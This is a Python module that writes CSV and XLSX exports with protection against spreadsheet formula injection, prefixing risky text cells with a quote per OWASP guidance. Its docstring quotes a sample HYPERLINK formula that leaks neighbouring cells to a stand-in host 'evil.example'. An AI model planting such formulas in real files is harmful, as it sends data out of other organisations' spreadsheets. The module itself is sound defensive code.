"""Formula-safe CSV and XLSX writing: every spreadsheet export of IVP goes through this module.

Exports mix data typed by many users (activity titles, descriptions, references) into one file that other
organisations open in Excel or LibreOffice. A text cell that starts with `=`, `+`, `-` or `@` (or a tab or line
break, or a full-width / small-form look-alike of those characters, which some spreadsheet programs normalise) can
run as a formula there: `=HYPERLINK("http://evil.example/?leak="&B2, "klik")` leaks the neighbouring cells when
clicked. Following the OWASP guidance on CSV injection such text is prefixed with a single quote, which makes
the spreadsheet show it as text. Real numbers stay numbers (int, Decimal, float; and text that is nothing but a
plain number such as "-1234,56", which cannot be a formula), dates stay dates.

In XLSX every text cell is written with the string type, never as a formula or error value (openpyxl would
otherwise store any text starting with "=" as a live formula), and characters a worksheet cannot hold are
removed instead of failing the whole export.

Use `csv_writer` / `csv_dict_writer` instead of `csv.writer` / `csv.DictWriter`, and `new_workbook`,
`append_row` and `workbook_bytes` instead of appending to an openpyxl sheet directly.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

# First characters that make a spreadsheet read a cell as a formula (OWASP: = + - @ tab CR), line feed (a
# cell that starts with a line break hides what follows), and their full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20)
# and small-form (U+FE66, U+FE62, U+FE63, U+FE6B) variants, and the minus sign U+2212.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
# Leading spaces a spreadsheet may drop before it looks at the first character.
_LEADING_SPACE = " \u00a0\u3000"
# Text that is only a plain number (optionally signed, with decimal or grouping separators): never a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*")
# Control characters an XLSX worksheet cannot hold (the same set openpyxl refuses).
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_MAX_TEXT = 32767  # characters in one cell


def neutralise(text: str) -> str:
    """The text, prefixed with ' when a spreadsheet could read it as a formula."""
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return text
    if text[0] in FORMULA_TRIGGERS or text.lstrip(_LEADING_SPACE)[:1] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def safe_value(value: Any) -> Any:
    """A cell value for CSV: text neutralised, everything else (numbers, dates, None) unchanged."""
    if isinstance(value, str):
        return neutralise(value)
    return value


# --- CSV --------------------------------------------------------------------------------------------


class SafeCsvWriter:
    """`csv.writer` whose every text cell is neutralised."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeCsvDictWriter:
    """`csv.DictWriter` whose every text cell (the header too) is neutralised."""

    def __init__(self, out, fieldnames: list[str], **kwargs):
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(out, fieldnames=self.fieldnames, **kwargs)

    def writeheader(self):
        return self._writer.writerow({name: neutralise(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]):
        return self._writer.writerow({key: safe_value(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)


def csv_dict_writer(out, fieldnames: list[str], **kwargs) -> SafeCsvDictWriter:
    return SafeCsvDictWriter(out, fieldnames, **kwargs)


# --- XLSX -------------------------------------------------------------------------------------------


def xlsx_text(text: str) -> str:
    """Text as an XLSX cell holds it: neutralised, without the control characters a worksheet refuses, and
    no longer than a cell may be."""
    return neutralise(_XLSX_ILLEGAL.sub("", text))[:XLSX_MAX_TEXT]


def new_workbook(*, keep_first_sheet: bool = True):
    from openpyxl import Workbook

    workbook = Workbook()
    if not keep_first_sheet:
        workbook.remove(workbook.active)
    return workbook


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append one row; text cells are neutralised and typed as text (never a formula or an error value)."""
    sheet.append([xlsx_text(v) if isinstance(v, str) else v for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def workbook_bytes(workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --- CSV for Dutch Excel (public downloads, ADR 0020) ---------------------------------------------------------


def excel_nl_number(value: Any, digits: int | None = None) -> Any:
    """A number as Dutch Excel reads it from CSV: a decimal comma, no thousands separator ('1234,5'); other values
    unchanged (None: an empty cell)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        text = f"{value:.{digits}f}" if digits is not None else repr(value)
        return text.replace(".", ",")
    return value


def excel_nl_csv(*, notes: Iterable[str], header: list[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A public table as CSV for Dutch Excel: UTF-8 with a byte-order mark (Excel then reads the accents), ';' as the
    separator, numbers with a decimal comma (format them with `excel_nl_number`), every text cell formula-safe.

    The source and period come first as comment lines starting with '# ' (one cell each; a program reading the
    table skips them, e.g. pandas `comment="#"`), then the header row, then the rows. A comment line is written as it
    is, never quoted, so it starts with '#' for every reader; the separator and line breaks in it become a comma and
    a space (one cell in Excel)."""
    out = io.StringIO()
    for note in notes:
        out.write("# " + " ".join(str(note).replace(";", ",").split()) + "\r\n")
    writer = csv_writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
